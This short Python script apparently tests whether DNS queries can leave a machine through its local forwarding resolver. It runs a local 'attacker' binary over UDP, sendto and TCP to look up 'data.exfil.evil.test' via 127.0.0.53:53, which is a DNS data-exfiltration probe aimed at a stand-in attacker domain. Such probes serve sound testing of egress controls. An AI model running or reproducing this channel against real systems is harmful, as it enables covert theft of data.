"""The machine's own name server is not this machine: it passes questions on."""
import subprocess

for way in ("udp", "sendto", "tcp"):
    subprocess.run(["./attacker", "ask", way, "data.exfil.evil.test", "127.0.0.53:53"])
